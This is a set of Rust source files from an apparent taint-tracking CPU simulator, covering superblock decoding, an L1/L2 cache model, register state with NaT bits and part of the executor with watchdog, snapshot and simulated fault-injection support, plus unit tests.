                insns_by_prov[insn.prov.index()] += 1;
                uops.push(MicroOp {
                    op: insn.op,
                    qp: insn.qp,
                    prov: insn.prov,
                    base: u32::try_from(effective).expect("base cost fits u32"),
                });
            }
            let acct_start = accts.len() as u32;
            for p in 0..NPROV {
                if insns_by_prov[p] != 0 {
                    accts.push(ProvAcct {
                        prov: p as u8,
                        cycles: u32::try_from(cycles_by_prov[p])
                            .expect("block cycle total fits u32"),
                        insns: u32::try_from(insns_by_prov[p]).expect("block insn total fits u32"),
                    });
                }
            }
            let acct_len = accts.len() as u32 - acct_start;
            let bid = blocks.len() as u32;
            for slot in &mut block_of[start..end] {
                *slot = bid;
            }
            blocks.push(Block {
                start: start as u32,
                uop_start,
                len: (end - start) as u32,
                pure,
                acct_start,
                acct_len,
            });
            start = end;
        }

        BlockProgram {
            blocks: blocks.into_boxed_slice(),
            uops: uops.into_boxed_slice(),
            accts: accts.into_boxed_slice(),
            block_of: block_of.into_boxed_slice(),
        }
    }

    /// The block whose first instruction is `ip`, if any. Mid-block and
    /// out-of-range addresses return `None` (the caller falls back to the
    /// per-instruction tier, which raises `BadIp` for the latter).
    #[inline]
    pub fn block_starting_at(&self, ip: usize) -> Option<u32> {
        let &bid = self.block_of.get(ip)?;
        let blk = &self.blocks[bid as usize];
        (blk.start as usize == ip).then_some(bid)
    }

    /// Number of decoded blocks.
    pub fn block_count(&self) -> usize {
        self.blocks.len()
    }
}

/// Returns `true` when `op` always ends a superblock: control transfers
/// (the next instruction depends on machine state) and `syscall` (the
/// runtime may re-arm boundary-checked machine state mid-call).
fn is_terminator(op: &Op) -> bool {
    op.is_control() || matches!(op, Op::Syscall { .. })
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::{AluOp, Gpr, Pr};

    fn decode(code: &[Insn]) -> BlockProgram {
        BlockProgram::build(code, &CostModel::ITANIUM2)
    }

    #[test]
    fn every_instruction_lands_in_exactly_one_block() {
        let code = vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 }),
            Insn::new(Op::Jmp { target: 3 }),
            Insn::new(Op::Nop),
            Insn::new(Op::Halt),
        ];
        let prog = decode(&code);
        let total: u32 = prog.blocks.iter().map(|b| b.len).sum();
        assert_eq!(total as usize, code.len());
        for (ip, _) in code.iter().enumerate() {
            let bid = prog.block_of[ip] as usize;
            let b = &prog.blocks[bid];
            assert!(
                (b.start..b.start + b.len).contains(&(ip as u32)),
                "insn {ip} not inside its block"
            );
        }
    }

    #[test]
    fn branch_targets_become_leaders() {
        let code = vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 }),
            Insn::new(Op::MovI { dst: Gpr::R2, imm: 2 }),
            Insn::new(Op::Jmp { target: 1 }), // back-edge into insn 1
        ];
        let prog = decode(&code);
        assert!(prog.block_starting_at(1).is_some(), "jump target must start a block");
        assert!(prog.block_starting_at(2).is_none(), "insn 2 is mid-block");
        assert!(prog.block_starting_at(0).is_some());
    }

    #[test]
    fn terminators_end_blocks() {
        let code = vec![
            Insn::new(Op::Syscall { num: 1 }),
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 }),
            Insn::new(Op::Halt),
        ];
        let prog = decode(&code);
        assert_eq!(prog.block_count(), 2);
        assert_eq!(prog.blocks[0].len, 1, "syscall terminates its block");
        assert_eq!(prog.blocks[1].len, 2);
    }

    #[test]
    fn pure_blocks_precompute_static_accounting() {
        let cost = CostModel::ITANIUM2;
        let code = vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 << 40 }), // long movl
            Insn::new(Op::Alu { op: AluOp::Add, dst: Gpr::R2, src1: Gpr::R1, src2: Gpr::R1 }),
            Insn::new(Op::Jmp { target: 0 }),
        ];
        let prog = decode(&code);
        assert_eq!(prog.block_count(), 1);
        let b = &prog.blocks[0];
        assert!(b.pure);
        assert_eq!(b.acct_len, 1, "single-provenance block compresses to one entry");
        let a = &prog.accts[b.acct_start as usize];
        assert_eq!(usize::from(a.prov), Provenance::Original.index());
        assert_eq!(u64::from(a.insns), 3);
        assert_eq!(u64::from(a.cycles), cost.movl + cost.alu + cost.branch_taken);
    }

    #[test]
    fn memory_predication_and_chk_make_blocks_impure() {
        for code in [
            vec![Insn::new(Op::LdFill { dst: Gpr::R1, addr: Gpr::R2 })],
            vec![Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 }).under(Pr::P3)],
            vec![Insn::new(Op::ChkS { src: Gpr::R1, target: 0 })],
        ] {
            let prog = decode(&code);
            assert!(!prog.blocks[0].pure, "block must be impure: {code:?}");
        }
    }

    #[test]
    fn out_of_range_and_empty_code_are_handled() {
        let prog = decode(&[]);
        assert_eq!(prog.block_count(), 0);
        assert!(prog.block_starting_at(0).is_none());
        let prog = decode(&[Insn::new(Op::Halt)]);
        assert!(prog.block_starting_at(7).is_none());
    }
}
