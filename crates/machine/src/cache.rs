//! Two-level data-cache model.
//!
//! A classic set-associative LRU hierarchy: 16 KiB / 4-way L1D backed by a
//! 256 KiB / 8-way unified L2, with DRAM behind it. Only *stall* cycles are
//! reported — the 1-cycle L1 pipeline latency is part of the instruction's
//! base cost. The model is used for both application data and the taint
//! bitmap; because a tag byte covers 8 (byte-level) or 64 (word-level) data
//! bytes, bitmap accesses have high locality and mostly hit in L1, which is
//! why the paper finds the *memory-access* share of instrumentation overhead
//! small next to the *computation* share (§6.4, Figure 9).

/// Configuration of one cache level.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct CacheConfig {
    /// Total capacity in bytes.
    pub capacity: u64,
    /// Associativity (ways per set).
    pub ways: usize,
    /// Line size in bytes (power of two).
    pub line: u64,
}

impl CacheConfig {
    /// Number of sets implied by the configuration.
    pub fn sets(&self) -> usize {
        (self.capacity / (self.line * self.ways as u64)) as usize
    }
}

/// One set-associative LRU cache level.
///
/// Ways are stored flat (`slots[set * ways ..][..ways]`, most-recent first)
/// with an impossible line number as the empty sentinel, so an access is one
/// contiguous scan with no per-set allocation. LRU behaviour — and therefore
/// the hit/miss/stall sequence — is identical to the textbook
/// list-of-tags formulation.
#[derive(Clone, Debug)]
struct Level {
    cfg: CacheConfig,
    set_mask: usize,
    /// `log2(cfg.line)`: line math compiles to shifts, not `u64` division —
    /// the cache sits on the interpreter's memory fast path and a hardware
    /// divide per access is measurable there.
    line_shift: u32,
    slots: Vec<u64>,
    hits: u64,
    misses: u64,
}

/// No real line has this number: lines are `addr / line_size` and addresses
/// top out well below `u64::MAX`.
const EMPTY_LINE: u64 = u64::MAX;

impl Level {
    fn new(cfg: CacheConfig) -> Level {
        assert!(cfg.line.is_power_of_two(), "line size must be a power of two");
        let sets = cfg.sets();
        assert!(sets.is_power_of_two() && sets > 0, "set count must be a power of two");
        Level {
            cfg,
            set_mask: sets - 1,
            line_shift: cfg.line.trailing_zeros(),
            slots: vec![EMPTY_LINE; sets * cfg.ways],
            hits: 0,
            misses: 0,
        }
    }

    /// Touches the line containing `addr`; returns `true` on hit.
    #[inline]
    fn access(&mut self, addr: u64) -> bool {
        let line = addr >> self.line_shift;
        let set = (line as usize) & self.set_mask;
        let ways = &mut self.slots[set * self.cfg.ways..(set + 1) * self.cfg.ways];
        if ways[0] == line {
            // Most-recently-used hit: the dominant case, no reordering.
            self.hits += 1;
            return true;
        }
        if let Some(pos) = ways.iter().position(|&t| t == line) {
            ways[..=pos].rotate_right(1);
            self.hits += 1;
            true
        } else {
            ways.rotate_right(1);
            ways[0] = line;
            self.misses += 1;
            false
        }
    }
}

/// The L1 + L2 + DRAM hierarchy with stall-latency accounting.
#[derive(Clone, Debug)]
pub struct CacheHierarchy {
    l1: Level,
    l2: Level,
    /// Extra cycles for an L1 miss that hits L2.
    pub l2_latency: u64,
    /// Extra cycles for an access that misses both levels.
    pub mem_latency: u64,
}

impl CacheHierarchy {
    /// The Itanium-2-flavoured default: 16 KiB/4-way L1D (stall-free hits),
    /// 256 KiB/8-way L2 at +8 cycles, DRAM at +120 cycles.
    pub fn itanium2() -> CacheHierarchy {
        CacheHierarchy {
            l1: Level::new(CacheConfig { capacity: 16 << 10, ways: 4, line: 64 }),
            l2: Level::new(CacheConfig { capacity: 256 << 10, ways: 8, line: 64 }),
            l2_latency: 8,
            mem_latency: 120,
        }
    }

    /// Simulates a data access of `size` bytes at `addr`; returns the stall
    /// cycles beyond the instruction's base latency. Accesses that straddle a
    /// line boundary touch both lines.
    #[inline]
    pub fn access(&mut self, addr: u64, size: u64) -> u64 {
        let shift = self.l1.line_shift;
        let first = addr >> shift;
        let last = addr.wrapping_add(size.max(1) - 1) >> shift;
        if first == last {
            return self.access_line(first << shift);
        }
        let mut stall = 0;
        for line in first..=last {
            stall += self.access_line(line << shift);
        }
        stall
    }

    #[inline]
    fn access_line(&mut self, addr: u64) -> u64 {
        if self.l1.access(addr) {
            0
        } else if self.l2.access(addr) {
            self.l2_latency
        } else {
            self.mem_latency
        }
    }

    /// `(hits, misses)` at L1.
    pub fn l1_stats(&self) -> (u64, u64) {
        (self.l1.hits, self.l1.misses)
    }

    /// `(hits, misses)` at L2.
    pub fn l2_stats(&self) -> (u64, u64) {
        (self.l2.hits, self.l2.misses)
    }

    /// Resets contents and counters (used between benchmark phases).
    pub fn reset(&mut self) {
        let (l1c, l2c) = (self.l1.cfg, self.l2.cfg);
        self.l1 = Level::new(l1c);
        self.l2 = Level::new(l2c);
    }
}

impl Default for CacheHierarchy {
    fn default() -> Self {
        CacheHierarchy::itanium2()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn first_touch_misses_then_hits() {
        let mut c = CacheHierarchy::itanium2();
        assert_eq!(c.access(0x1000, 8), c.mem_latency);
        assert_eq!(c.access(0x1000, 8), 0);
        // Same line, different offset: still a hit.
        assert_eq!(c.access(0x1008, 8), 0);
    }

    #[test]
    fn l2_catches_l1_evictions() {
        let mut c = CacheHierarchy::itanium2();
        // L1 is 16 KiB 4-way with 64-line sets; walking 32 KiB of
        // same-set lines evicts the first from L1 but not from L2.
        let set_stride = 64 * 64; // line * sets
        c.access(0, 8);
        for i in 1..=8u64 {
            c.access(i * set_stride, 8);
        }
        let stall = c.access(0, 8);
        assert_eq!(stall, c.l2_latency, "should be an L2 hit after L1 eviction");
    }

    #[test]
    fn straddling_access_touches_two_lines() {
        let mut c = CacheHierarchy::itanium2();
        // Byte-granularity access spanning a line boundary (only possible
        // for unaligned byte-string ops).
        let stall = c.access(64 - 1, 2);
        assert_eq!(stall, 2 * c.mem_latency);
    }

    #[test]
    fn stats_accumulate() {
        let mut c = CacheHierarchy::itanium2();
        c.access(0, 8);
        c.access(0, 8);
        let (h, m) = c.l1_stats();
        assert_eq!((h, m), (1, 1));
        c.reset();
        assert_eq!(c.l1_stats(), (0, 0));
    }

    #[test]
    fn tag_locality_mostly_hits() {
        // Sequentially touching 4 KiB of data plus its byte-level tag bytes
        // (512 of them) should produce far more hits than misses.
        let mut c = CacheHierarchy::itanium2();
        let mut stalls = 0;
        for i in 0..4096u64 {
            stalls += c.access(0x10_0000 + i, 1);
            stalls += c.access(0x20_0000 + i / 8, 1); // its tag byte
        }
        let (h, m) = c.l1_stats();
        assert!(h > 50 * m, "expected strong locality, got {h} hits / {m} misses");
        // 4 KiB of data (64 lines) + 512 B of tags (8 lines) ≈ 72 cold
        // misses; anything close to that means the tag stream is riding the
        // data stream's locality.
        assert!(stalls <= 80 * c.mem_latency, "stalls = {stalls}");
    }
}
