//! Architected CPU state: GPRs with NaT bits, predicates, branch registers,
//! `UNAT`, and the instruction pointer.

use shift_isa::{Br, Gpr, Pr};

/// A register value together with its NaT (deferred-exception / taint) bit.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub struct RegVal {
    /// The 64-bit register contents.
    pub value: u64,
    /// The NaT bit; under SHIFT this *is* the taint tag.
    pub nat: bool,
}

impl RegVal {
    /// A non-NaT value.
    #[inline]
    pub const fn of(value: u64) -> RegVal {
        RegVal { value, nat: false }
    }

    /// A NaT'd register (value zeroed, as a speculative-load failure leaves
    /// it and as `tset` defines it).
    pub const NAT: RegVal = RegVal { value: 0, nat: true };
}

/// The architected register state.
#[derive(Clone, Debug)]
pub struct Cpu {
    gpr: [u64; Gpr::COUNT],
    nat: [bool; Gpr::COUNT],
    pr: [bool; Pr::COUNT],
    br: [u64; Br::COUNT],
    /// The `UNAT` application register: banked NaT bits for `st8.spill` /
    /// `ld8.fill`, indexed by bits 8:3 of the spill address.
    pub unat: u64,
    /// Instruction pointer (index into the code image).
    pub ip: usize,
}

impl Cpu {
    /// Resets all state: registers zero, predicates false (`p0` reads true
    /// regardless), `ip` at `entry`.
    pub fn new(entry: usize) -> Cpu {
        Cpu {
            gpr: [0; Gpr::COUNT],
            nat: [false; Gpr::COUNT],
            pr: [false; Pr::COUNT],
            br: [0; Br::COUNT],
            unat: 0,
            ip: entry,
        }
    }

    /// Reads a GPR (with its NaT bit). `r0` always reads as non-NaT zero.
    #[inline]
    pub fn gpr(&self, r: Gpr) -> RegVal {
        if r == Gpr::R0 {
            RegVal::of(0)
        } else {
            RegVal { value: self.gpr[r.index()], nat: self.nat[r.index()] }
        }
    }

    /// Writes a GPR (with its NaT bit). Writes to `r0` are ignored.
    #[inline]
    pub fn set_gpr(&mut self, r: Gpr, v: RegVal) {
        if r != Gpr::R0 {
            self.gpr[r.index()] = v.value;
            self.nat[r.index()] = v.nat;
        }
    }

    /// Convenience: writes a non-NaT value.
    #[inline]
    pub fn set_gpr_val(&mut self, r: Gpr, value: u64) {
        self.set_gpr(r, RegVal::of(value));
    }

    /// Reads a predicate register. `p0` always reads true.
    #[inline]
    pub fn pr(&self, p: Pr) -> bool {
        p == Pr::P0 || self.pr[p.index()]
    }

    /// Writes a predicate register. Writes to `p0` are ignored.
    #[inline]
    pub fn set_pr(&mut self, p: Pr, v: bool) {
        if p != Pr::P0 {
            self.pr[p.index()] = v;
        }
    }

    /// Reads a branch register.
    #[inline]
    pub fn br(&self, b: Br) -> u64 {
        self.br[b.index()]
    }

    /// Writes a branch register.
    #[inline]
    pub fn set_br(&mut self, b: Br, v: u64) {
        self.br[b.index()] = v;
    }

    /// The UNAT bit slot for a spill at `addr` (bits 8:3, like IA-64).
    #[inline]
    pub fn unat_slot(addr: u64) -> u32 {
        ((addr >> 3) & 63) as u32
    }

    /// Number of GPRs whose NaT bit is currently set (diagnostics).
    pub fn nat_count(&self) -> usize {
        self.nat.iter().filter(|&&n| n).count()
    }

    /// Folds every piece of architected state into `h`, in a fixed order —
    /// two CPUs digest equal iff their observable state is identical.
    pub(crate) fn digest_into(&self, h: &mut crate::snapshot::Fnv) {
        for &g in &self.gpr {
            h.word(g);
        }
        for &n in &self.nat {
            h.byte(u8::from(n));
        }
        for &p in &self.pr {
            h.byte(u8::from(p));
        }
        for &b in &self.br {
            h.word(b);
        }
        h.word(self.unat);
        h.word(self.ip as u64);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn r0_reads_zero_and_ignores_writes() {
        let mut cpu = Cpu::new(0);
        cpu.set_gpr(Gpr::R0, RegVal { value: 99, nat: true });
        assert_eq!(cpu.gpr(Gpr::R0), RegVal::of(0));
    }

    #[test]
    fn p0_reads_true_and_ignores_writes() {
        let mut cpu = Cpu::new(0);
        assert!(cpu.pr(Pr::P0));
        cpu.set_pr(Pr::P0, false);
        assert!(cpu.pr(Pr::P0));
        cpu.set_pr(Pr::P3, true);
        assert!(cpu.pr(Pr::P3));
    }

    #[test]
    fn nat_round_trips_through_gpr() {
        let mut cpu = Cpu::new(0);
        cpu.set_gpr(Gpr::R5, RegVal::NAT);
        assert!(cpu.gpr(Gpr::R5).nat);
        assert_eq!(cpu.gpr(Gpr::R5).value, 0);
        assert_eq!(cpu.nat_count(), 1);
    }

    #[test]
    fn unat_slots_wrap_per_512_bytes() {
        assert_eq!(Cpu::unat_slot(0), 0);
        assert_eq!(Cpu::unat_slot(8), 1);
        assert_eq!(Cpu::unat_slot(63 * 8), 63);
        assert_eq!(Cpu::unat_slot(64 * 8), 0);
    }
}
