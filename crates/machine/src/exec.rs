//! The in-order executor: fetch, predicate check, execute, account.

use shift_isa::{AluOp, CostModel, ExtKind, Insn, MemSize, Op, Provenance};
use shift_obs::{FuncSpan, Profiler, TaintObserver, TraceKind, TraceRing};

use crate::block::{BlockProgram, NPROV};
use crate::cache::CacheHierarchy;
use crate::cpu::{Cpu, RegVal};
use crate::fault::{Fault, NatFaultKind};
use crate::image::Image;
use crate::mem::{MemError, Memory};
use crate::snapshot::{Fnv, Injection, Snapshot};
use crate::stats::{Exit, Stats};

/// Host runtime interface: handles `syscall` traps.
///
/// The runtime receives the whole machine so it can read argument registers,
/// move data in and out of guest memory, maintain the taint bitmap for
/// sources, run policy checks for sinks, and charge I/O wait time.
pub trait Os {
    /// Handles runtime call `num` (arguments in `r16..`, result in `r8`).
    fn syscall(&mut self, machine: &mut Machine, num: u32) -> SysResult;
}

/// Outcome of a runtime call.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum SysResult {
    /// Continue executing the guest.
    Continue,
    /// Stop the run with the given exit (guest `exit`, policy violation, …).
    Stop(Exit),
}

/// An [`Os`] that rejects every runtime call — sufficient for pure-compute
/// programs that end with `halt`.
#[derive(Clone, Copy, Debug, Default)]
pub struct NullOs;

impl Os for NullOs {
    fn syscall(&mut self, machine: &mut Machine, num: u32) -> SysResult {
        SysResult::Stop(Exit::Fault(Fault::BadSyscall { num, ip: machine.cpu.ip }))
    }
}

/// The simulated processor plus its memory and accounting state.
///
/// Build one from an [`Image`] (or spawn many from a [`crate::MachineSeed`])
/// and drive it with [`Machine::run`]:
///
/// ```
/// use shift_isa::{Gpr, Insn, Op};
/// use shift_machine::{Exit, Image, Machine, NullOs};
///
/// let image = Image::builder()
///     .code(vec![
///         Insn::new(Op::MovI { dst: Gpr::R1, imm: 2 }),
///         Insn::new(Op::AluI { op: shift_isa::AluOp::Add, dst: Gpr::R8, src1: Gpr::R1, imm: 40 }),
///         Insn::new(Op::Halt),
///     ])
///     .build();
/// let mut m = Machine::new(&image);
/// assert_eq!(m.run(&mut NullOs, 1_000), Exit::Halted(42));
/// assert_eq!(m.stats.instructions, 3);
/// ```
#[derive(Clone, Debug)]
pub struct Machine {
    /// Architected register state.
    pub cpu: Cpu,
    /// Guest memory.
    pub mem: Memory,
    /// Data-cache hierarchy (stall model).
    pub cache: CacheHierarchy,
    /// Cycle/event accounting.
    pub stats: Stats,
    /// Instruction latency table. Private because `base_cost` caches its
    /// per-instruction answers — mutating one without the other would skew
    /// the cycle model.
    cost: CostModel,
    /// Decoded code, shared with the [`crate::MachineSeed`] (and every
    /// sibling instance) that spawned this machine.
    code: std::sync::Arc<[Insn]>,
    /// `cost.base()` of each instruction in `code`, precomputed so the
    /// dispatcher replaces a second match on the op with one indexed load.
    /// Shared like `code`.
    base_cost: std::sync::Arc<[u64]>,
    /// Code pre-decoded into superblocks (see [`crate::block`]), shared like
    /// `code`. A pure host-speed structure: never part of guest state.
    blocks: std::sync::Arc<BlockProgram>,
    /// Superblocks entered through the block-dispatch tier.
    block_hits: u64,
    /// Instructions stepped on the per-instruction fallback tier while block
    /// dispatch was eligible (mid-block entry, boundary guard, budget tail).
    block_misses: u64,
    /// Times the superblock tables were invalidated and rebuilt.
    block_flushes: u64,
    trace: Option<std::collections::VecDeque<usize>>,
    trace_cap: usize,
    watchdog: Option<Watchdog>,
    injections: Vec<(u64, Injection)>,
    // Observability state (diagnostic-only: costs no modelled cycles, is
    // excluded from state_digest(), and never influences execution). Both
    // are boxed so the disabled case is a single pointer test per hook.
    obs: Option<Box<TaintObserver>>,
    profiler: Option<Box<Profiler>>,
    /// Flight recorder (DESIGN.md §14). Diagnostic-only like `obs` and
    /// `profiler`, but deliberately NOT part of the hot-tier gate: its
    /// events originate only at syscall boundaries, superblock flushes,
    /// recovery points, and injection firings — never per instruction — so
    /// the superblock tier stays armed while recording.
    flight: Option<Box<TraceRing>>,
}

/// Per-transaction fuel budget: counts instructions retired since the last
/// [`Machine::pet_watchdog`] and trips when the budget is exceeded.
#[derive(Clone, Debug)]
struct Watchdog {
    budget: u64,
    used: u64,
}

/// Outcome of one dispatcher step (or one superblock).
///
/// This is the contract between the dispatch tiers and the [`Machine::run`]
/// driver loop: both the per-instruction stepper and the superblock executor
/// report their progress through it.
///
/// The `Recheck` variant is the linchpin of the tiered design: a `syscall`
/// hands the *whole machine* (`&mut Machine`) to the [`Os`] handler, which
/// may arm the watchdog, schedule injections, enable tracing or
/// observability, or rewind memory — so every loop invariant the fast tiers
/// rely on (and the software TLB's internal state) must be re-established
/// from scratch before the next instruction. Anything that cannot happen
/// mid-tier is deferred to this boundary.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum StepOut {
    /// Keep going.
    Continue,
    /// Keep going, but a syscall ran — the fast tiers' invariants (watchdog,
    /// injections, trace, observability all disabled or boundary-checked)
    /// must be re-verified before the next dispatch.
    Recheck,
    /// The run stops.
    Exit(Exit),
}

/// Host-side counters for the superblock dispatch tier (see
/// [`Machine::superblock_stats`]). Purely diagnostic: these count *host*
/// dispatch decisions, never modelled events, and are excluded from
/// [`Machine::state_digest`] and [`Stats`].
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub struct SuperblockStats {
    /// Superblocks executed through the block-dispatch tier.
    pub hits: u64,
    /// Instructions stepped on the per-instruction fallback while block
    /// dispatch was eligible (mid-block entry, boundary guard refusal, or
    /// the run budget's tail being shorter than the next block).
    pub misses: u64,
    /// Times [`Machine::flush_superblocks`] rebuilt the tables.
    pub flushes: u64,
    /// Superblocks in the decoded program.
    pub blocks: u64,
}

impl Machine {
    /// Loads an image: maps its segments, copies initialized data, maps the
    /// stack and sets `sp`/`ip`.
    ///
    /// # Panics
    ///
    /// Panics if an initialized data segment fails to load (a malformed
    /// image is a programming error, not a guest-visible fault).
    pub fn new(image: &Image) -> Machine {
        crate::seed::MachineSeed::new(image).into_machine()
    }

    /// Assembles a machine from seed parts: fresh caches, zeroed stats,
    /// shared code. Only [`crate::MachineSeed`] builds these parts.
    pub(crate) fn from_seed_parts(
        cpu: Cpu,
        mem: Memory,
        code: std::sync::Arc<[Insn]>,
        base_cost: std::sync::Arc<[u64]>,
        blocks: std::sync::Arc<BlockProgram>,
    ) -> Machine {
        Machine {
            cpu,
            mem,
            cache: CacheHierarchy::itanium2(),
            stats: Stats::new(),
            cost: CostModel::ITANIUM2,
            base_cost,
            code,
            blocks,
            block_hits: 0,
            block_misses: 0,
            block_flushes: 0,
            trace: None,
            trace_cap: 0,
            watchdog: None,
            injections: Vec::new(),
            obs: None,
            profiler: None,
            flight: None,
        }
    }

    /// Enables taint-flow tracing: the machine mirrors every taint-relevant
    /// event into a [`TaintObserver`], so violations can be reported with a
    /// full provenance chain. Purely diagnostic — modelled cycles, guest
    /// state, and [`Machine::state_digest`] are unaffected.
    pub fn enable_taint_observer(&mut self) {
        self.obs = Some(Box::default());
    }

    /// The taint observer, when tracing is enabled.
    pub fn taint_observer(&self) -> Option<&TaintObserver> {
        self.obs.as_deref()
    }

    /// Mutable access to the taint observer (the runtime records taint
    /// births and sink events through this).
    pub fn taint_observer_mut(&mut self) -> Option<&mut TaintObserver> {
        self.obs.as_deref_mut()
    }

    /// Enables the cycle-attribution profiler with the given guest function
    /// table. Diagnostic-only, like the taint observer.
    pub fn enable_profiler(&mut self, funcs: Vec<FuncSpan>) {
        self.profiler = Some(Box::new(Profiler::new(funcs, self.cpu.ip)));
    }

    /// Arms the flight recorder: a bounded [`TraceRing`] holding at most
    /// `cap` events, with time-series sampling every `sample_cycles`
    /// modelled cycles (`0` disarms sampling). Diagnostic-only, like the
    /// taint observer — and unlike the per-instruction trace, arming it
    /// does not demote execution to the cold dispatch tier, because every
    /// recording site sits on a boundary path (DESIGN.md §14).
    pub fn enable_flight_recorder(&mut self, cap: usize, sample_cycles: u64) {
        let mut ring = TraceRing::with_capacity(cap);
        if sample_cycles > 0 {
            ring.arm_sampling(sample_cycles);
        }
        self.flight = Some(Box::new(ring));
    }

    /// The flight recorder, when armed.
    pub fn flight_recorder(&self) -> Option<&TraceRing> {
        self.flight.as_deref()
    }

    /// Mutable access to the flight recorder (the runtime pushes
    /// checkpoint/recovery/violation/request/syscall events through this).
    pub fn flight_recorder_mut(&mut self) -> Option<&mut TraceRing> {
        self.flight.as_deref_mut()
    }

    /// Detaches and returns the flight recorder (the fleet does this after
    /// a serve, to merge per-connection rings into one timeline).
    pub fn take_flight_recorder(&mut self) -> Option<TraceRing> {
        self.flight.take().map(|b| *b)
    }

    /// The profiler, when enabled.
    pub fn profiler(&self) -> Option<&Profiler> {
        self.profiler.as_deref()
    }

    /// Arms (or re-arms) the watchdog: once more than `insns` instructions
    /// retire without a [`Machine::pet_watchdog`], [`Machine::step`] stops
    /// with [`Exit::FuelExhausted`] — a runaway or wedged guest terminates
    /// deterministically instead of spinning to the global budget. The run
    /// is resumable: pet (or disarm) the watchdog and step again.
    pub fn arm_watchdog(&mut self, insns: u64) {
        self.watchdog = Some(Watchdog { budget: insns, used: 0 });
    }

    /// Resets the watchdog's fuel counter. The recovery runtime calls this
    /// at every transaction boundary (each request is granted a full
    /// budget); a no-op when the watchdog is unarmed.
    pub fn pet_watchdog(&mut self) {
        if let Some(w) = &mut self.watchdog {
            w.used = 0;
        }
    }

    /// Disarms the watchdog.
    pub fn disarm_watchdog(&mut self) {
        self.watchdog = None;
    }

    /// Captures a restorable [`Snapshot`]: the full architected CPU state
    /// (GPRs with NaT bits, predicates, branch registers, `UNAT`, `ip`) plus
    /// a copy-on-write memory checkpoint. Supersedes any earlier snapshot of
    /// this machine.
    ///
    /// ```
    /// use shift_isa::{Gpr, Insn, Op};
    /// use shift_machine::{Image, Machine, NullOs};
    ///
    /// let image = Image::builder()
    ///     .code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 7 }), Insn::new(Op::Halt)])
    ///     .build();
    /// let mut m = Machine::new(&image);
    /// let before = m.state_digest();
    /// let snap = m.snapshot();
    /// m.run(&mut NullOs, 1_000); // mutates registers and `ip`
    /// assert_ne!(m.state_digest(), before);
    /// m.restore(&snap);
    /// assert_eq!(m.state_digest(), before);
    /// ```
    pub fn snapshot(&mut self) -> Snapshot {
        let mem_epoch = self.mem.begin_checkpoint();
        Snapshot { cpu: self.cpu.clone(), mem_epoch }
    }

    /// Rewinds CPU and memory to `snap`'s point. The checkpoint stays armed,
    /// so the same snapshot can be restored repeatedly (per-request
    /// isolation rolls back to one snapshot many times). Timing state
    /// (cache, statistics) is not rewound — see [`Snapshot`].
    ///
    /// # Panics
    ///
    /// Panics if `snap` was superseded by a newer [`Machine::snapshot`] or
    /// belongs to another machine.
    pub fn restore(&mut self, snap: &Snapshot) {
        assert_eq!(
            self.mem.checkpoint_epoch(),
            snap.mem_epoch,
            "snapshot superseded by a newer checkpoint (or from another machine)"
        );
        assert!(self.mem.rollback_checkpoint(), "no armed memory checkpoint to restore");
        self.cpu = snap.cpu.clone();
    }

    /// Digest of all guest-observable state: every register (values, NaT
    /// bits, predicates, branch registers, `UNAT`, `ip`) and all memory
    /// contents, mappings, and banked spill-NaT bits. Two machines with
    /// equal digests are indistinguishable to the guest; recovery tests use
    /// this for byte-for-byte restore verification.
    pub fn state_digest(&self) -> u64 {
        let mut h = Fnv::new();
        self.cpu.digest_into(&mut h);
        self.mem.digest_into(&mut h);
        h.0
    }

    /// Schedules a fault-injection event: `inj` is applied immediately
    /// before the instruction that retires after `insns` more steps
    /// (`0` = before the next instruction). Events are transient — they
    /// perturb state or raise one fault, then disappear.
    pub fn inject_after(&mut self, insns: u64, inj: Injection) {
        self.injections.push((insns, inj));
    }

    /// Number of scheduled injections that have not fired yet.
    pub fn pending_injections(&self) -> usize {
        self.injections.len()
    }

    fn apply_due_injections(&mut self) -> Option<Exit> {
        let mut due = Vec::new();
        self.injections.retain_mut(|(countdown, inj)| {
            if *countdown == 0 {
                due.push(inj.clone());
                false
            } else {
                *countdown -= 1;
                true
            }
        });
        let mut fault = None;
        for inj in due {
            self.stats.injected_events += 1;
            if let Some(fr) = self.flight.as_deref_mut() {
                let what = match &inj {
                    Injection::FlipNat { .. } => "flip_nat",
                    Injection::CorruptByte { .. } => "corrupt_byte",
                    Injection::Fault(_) => "fault",
                };
                fr.instant(self.stats.total_time(), TraceKind::InjectionFired { what });
            }
            match inj {
                Injection::FlipNat { reg } => {
                    let v = self.cpu.gpr(reg);
                    self.cpu.set_gpr(reg, RegVal { value: v.value, nat: !v.nat });
                }
                Injection::CorruptByte { addr, xor } => {
                    // Unmapped targets are a benign no-op; everything else
                    // goes through the normal write path so an armed
                    // checkpoint journals the damage.
                    if let Ok(old) = self.mem.read_int(addr, 1) {
                        let _ = self.mem.write_int(addr, 1, old ^ u64::from(xor));
                    }
                }
                Injection::Fault(f) => fault = Some(f),
            }
        }
        fault.map(Exit::Fault)
    }

    /// Keeps a ring buffer of the last `n` executed instruction addresses
    /// for post-mortem inspection (see [`Machine::trace_listing`]). Tracing
    /// costs a deque push per instruction; leave it off for experiments.
    pub fn enable_trace(&mut self, n: usize) {
        self.trace = Some(std::collections::VecDeque::with_capacity(n + 1));
        self.trace_cap = n;
    }

    /// The traced instruction addresses, oldest first (empty when tracing
    /// is off).
    pub fn trace(&self) -> Vec<usize> {
        self.trace.as_ref().map(|t| t.iter().copied().collect()).unwrap_or_default()
    }

    /// Formats the trace as a disassembly listing, annotating each line
    /// with its address; the faulting/last instruction comes last.
    pub fn trace_listing(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        for &ip in self.trace().iter() {
            if let Some(insn) = self.code.get(ip) {
                let _ = writeln!(out, "{ip:6}:  {insn}");
            }
        }
        out
    }

